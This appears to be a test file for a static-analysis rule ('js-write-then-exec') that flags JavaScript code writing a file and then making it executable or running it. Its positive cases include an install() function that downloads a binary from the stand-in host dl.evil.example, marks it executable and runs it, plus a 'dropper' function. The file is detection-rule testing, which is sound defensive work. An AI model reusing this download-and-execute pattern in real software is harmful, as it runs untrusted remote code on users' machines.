const fs = require("fs");
const { execFileSync } = require("child_process");

async function install(dest) {
  const res = await fetch("https://dl.evil.example/agent");
  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
  // ruleid: js-write-then-exec
  fs.chmodSync(dest, 0o755);
  // ruleid: js-write-then-exec
  execFileSync(dest);
}

function report(out) {
  fs.writeFileSync(out, "done");
  // ok: js-write-then-exec
  execFileSync("git", ["add", out]);
}

async function writeConfig(path, content) {
  await fs.promises.writeFile(path, content, "utf8");
  // ok: js-write-then-exec
  await fs.promises.chmod(path, 0o600);
  return path;
}

function saveKey(p, key) {
  fs.writeFileSync(p, key);
  // ok: js-write-then-exec
  fs.chmodSync(p, "644");
}

function dropper(p, body) {
  fs.writeFileSync(p, body);
  // ruleid: js-write-then-exec
  fs.chmodSync(p, 0o700);
}
